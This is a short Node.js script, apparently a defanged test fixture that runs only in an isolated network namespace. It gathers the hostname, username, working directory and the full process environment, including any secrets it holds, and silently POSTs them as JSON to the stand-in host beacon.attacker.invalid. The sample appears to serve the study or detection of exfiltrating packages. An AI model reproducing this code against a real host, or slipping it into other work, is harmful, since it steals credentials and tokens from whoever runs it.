if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const os = require('os');
const https = require('https');

const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, cwd: process.cwd(), env: process.env });
const req = https.request({ hostname: 'beacon.attacker.invalid', path: '/p', method: 'POST', headers: { 'Content-Type': 'application/json' } }, () => {});
req.on('error', () => {});
req.end(body);
